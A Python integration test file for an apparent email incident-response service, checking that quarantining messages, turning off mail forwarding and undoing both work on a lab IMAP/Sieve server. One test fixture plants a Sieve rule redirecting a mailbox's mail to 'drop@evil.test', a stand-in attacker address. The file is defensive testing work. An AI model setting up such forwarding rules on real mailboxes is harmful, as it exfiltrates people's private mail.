# SPDX-License-Identifier: GPL-3.0-or-later
"""The whole way, with nothing faked on it: proposed, approved, gone, undone and back, seen on the
mail server over IMAP."""
import pathlib
import sys
import tempfile
import unittest

from service import Service, wait_until

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "lab"))
from lab import Lab  # noqa: E402


class WholeWay(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = pathlib.Path(cls.enterClassContext(tempfile.TemporaryDirectory()))
        cls.lab = Lab(cls.folder / "lab", users=3, messages=20)
        cls.lab.start()
        cls.addClassCleanup(cls.lab.discard)
        cls.service = Service(cls.folder / "service", lab=cls.lab)
        cls.service.start()
        cls.addClassCleanup(cls.service.stop)

    def setUp(self):
        self.mailboxes = list(self.lab.mailboxes)
        self.before = {mailbox: self.lab.snapshot(mailbox) for mailbox in self.mailboxes}

    def propose(self, found, external_id):
        answer = self.service.request("POST", "/investigations",
                                      self.lab.investigation(found, external_id=external_id),
                                      role="detector")
        self.assertEqual(201, answer.status, answer)
        return [action["id"] for action in answer.json["actions"]]

    def decide(self, decision, ids):
        answer = self.service.decide(decision, ids)
        self.assertEqual(202, answer.status, answer)
        operation = self.service.wait_operation(answer.json["id"])
        counts = operation["counts"]
        self.assertEqual(len(ids), counts["total"])
        self.assertEqual((len(ids), 0, 0), (counts["done"], counts["failed"], counts["skipped"]),
                         operation)

    def test_one_message_goes_and_comes_back_as_it_was(self):
        mailbox = self.mailboxes[0]
        message = self.lab.messages(mailbox)[0]
        [action] = self.propose([message], "one")
        self.assertEqual(self.before[mailbox], self.lab.snapshot(mailbox))
        self.decide("approve", [action])
        self.assertEqual("completed", self.service.action(action)["status"])
        self.assertEqual(["Recoverable"], self.lab.where(mailbox, message.message_id))
        self.assertNotIn("Recoverable", self.lab.folders(mailbox))
        self.decide("undo", [action])
        after = self.service.action(action)
        self.assertEqual("undone", after["status"])
        self.assertEqual(self.before[mailbox], self.lab.snapshot(mailbox))
        # The timeline is that of the audit log.
        self.assertEqual([("the.responder", "approve"), ("the.responder", "undo")],
                         [(entry["actor"], entry["event"]) for entry in after["timeline"]
                          if entry["event"] in ("approve", "undo")])

    def test_what_is_there_already_is_said_and_counted(self):
        """A message that another action has moved is found where it should be; nobody has to do more."""
        mailbox = self.mailboxes[2]
        message = self.lab.messages(mailbox)[0]
        first, second = (self.propose([message], name)[0] for name in ("there-1", "there-2"))
        self.decide("approve", [first])
        operation = self.service.decide("approve", [second]).json["id"]
        self.assertEqual({"total": 1, "waiting": 0, "done": 0, "failed": 0, "skipped": 1},
                         self.service.wait_operation(operation)["counts"])
        outcomes = [result["outcome"] for one in (first, second)
                    for result in self.service.action(one)["results"]]
        self.assertEqual(["moved", "alreadyThere"], outcomes)
        self.assertFalse(self.service.action(second)["undoable"])
        self.decide("undo", [first])
        self.assertEqual(self.before[mailbox], self.lab.snapshot(mailbox))

    def test_many_in_several_mailboxes_go_and_come_back_as_they_were(self):
        found = [message for mailbox in self.mailboxes for message in self.lab.messages(mailbox)]
        actions = self.propose(found, "many")
        self.decide("approve", actions)
        for message in found:
            self.assertEqual(["Recoverable"], self.lab.where(message.mailbox, message.message_id))
        self.decide("undo", actions)
        for mailbox in self.mailboxes:
            self.assertEqual(self.before[mailbox], self.lab.snapshot(mailbox))

    def test_forwarding_is_turned_off_and_on_again(self):
        mailbox = self.mailboxes[1]
        script = b'redirect "drop@evil.test";\nredirect "colleague@example.test";\n'
        with self.lab.sieve(mailbox) as owner:
            owner.put("main", script, active=True)
            before = owner.snapshot()
        answer = self.service.request("POST", "/investigations", {
            "externalId": "forwarding", "title": "Mail of a mailbox is forwarded outside",
            "trigger": "alert", "detectionSource": "Lab", "severity": "high", "evidence": [],
            "actions": [{"type": "turnOffMailForwarding", "verdict": "malicious",
                         "source": "automatedEmail", "reason": "The address outside is new.",
                         "entity": {"type": "mailbox", "address": mailbox,
                                    "forwardingTargets": ["drop@evil.test"]},
                         "assets": [mailbox]}]}, role="detector")
        self.assertEqual(201, answer.status, answer)
        action = answer.json["actions"][0]["id"]
        wait_until(lambda: self.service.action(action)["targets"].get("digest"), "the scripts to be seen")
        self.decide("approve", [action])
        done = self.service.action(action)
        self.assertEqual(("completed", "done"), (done["status"], done["results"][0]["outcome"]))
        self.assertIn("“drop@evil.test”", done["results"][0]["detail"])
        with self.lab.sieve(mailbox) as owner:
            self.assertEqual("action-center", owner.active())
            self.assertEqual(script.split(b"\n", 1)[1], owner.get("action-center"))
        self.decide("undo", [action])
        self.assertEqual("undone", self.service.action(action)["status"])
        with self.lab.sieve(mailbox) as owner:
            self.assertEqual(before, owner.snapshot())


if __name__ == "__main__":
    unittest.main()
